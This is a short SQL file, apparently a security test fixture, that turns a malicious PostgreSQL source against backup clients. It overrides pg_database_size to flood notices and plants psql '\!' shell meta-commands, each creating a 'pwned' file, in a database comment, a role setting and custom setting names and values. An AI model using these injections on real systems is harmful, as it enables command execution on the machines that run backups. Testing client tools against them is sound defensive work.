-- What a backup may ask of its source, answered by its owner: a flood of notices before an absurd size, and settings whose names and
-- values are meant for psql or a shell.
CREATE OR REPLACE FUNCTION pg_catalog.pg_database_size(oid) RETURNS bigint LANGUAGE plpgsql AS $$
BEGIN
    FOR n IN 1..20000 LOOP
        RAISE NOTICE E'\n\\! cd /pgdata/*/ && touch pwned\n%', pg_catalog.repeat('flood ', 20);
    END LOOP;
    RETURN 1;
END
$$;

COMMENT ON DATABASE postgres IS E'\n\\! cd /pgdata/*/ && touch pwned\n';
ALTER ROLE postgres SET application_name = E'\n\\! cd /pgdata/*/ && touch pwned\n';
ALTER DATABASE postgres SET client_min_messages = debug5;
ALTER DATABASE postgres SET "odd.name" = E'''; \\! cd /pgdata/*/ && touch pwned';
